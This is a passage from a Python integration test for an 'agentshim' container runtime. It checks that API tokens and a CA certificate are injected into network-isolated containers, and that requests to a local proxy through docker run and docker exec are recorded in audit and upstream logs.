        dk("import", "-", "agentshim-test/curl", input=tar, check=True, timeout=300)
        url = f"https://127.0.0.2:{port}/v1"
        script = ('echo "token=$API_TOKEN ca=$SSL_CERT_FILE";'
                  f'curl -sS --max-time 10 -H "Authorization: Bearer $API_TOKEN" {url}/docker-run; echo " rc=$?"')
        r = dk("run", "--rm", "--runtime", "agentshim-cred", "--network", "none",
               "--annotation", "dev.agentshim.credentials=api", "agentshim-test/curl", "sh", "-c", script, timeout=120)
        text = r.stdout.decode(errors="replace") + r.stderr.decode(errors="replace")
        assert r.returncode == 0 and "rc=0" in text, text
        assert "token=agentshim-cred-" in text and "ca=/etc/agentshim-ca.pem" in text, text
        r = dk("run", "-d", "--name", "credexec", "--runtime", "agentshim-cred", "--network", "none",
               "--annotation", "dev.agentshim.credentials=api", "agentshim-test/curl", "sleep", "600", timeout=120)
        assert r.returncode == 0, r.stderr.decode(errors="replace")
        r = dk("exec", "credexec", "sh", "-c", script.replace("docker-run", "docker-exec"), timeout=60)
        etext = r.stdout.decode(errors="replace") + r.stderr.decode(errors="replace")
        assert r.returncode == 0 and "rc=0" in etext and "ca=/etc/agentshim-ca.pem" in etext, etext
        dk("rm", "-f", "credexec", timeout=60)
        up.check_record(dk.audit, ["/v1/docker-run", "/v1/docker-exec"])
    finally:
        if server is not None:
            server.kill()
            server.wait()
        dk.stop()
    up.check_upstream(["/v1/docker-run", "/v1/docker-exec"])
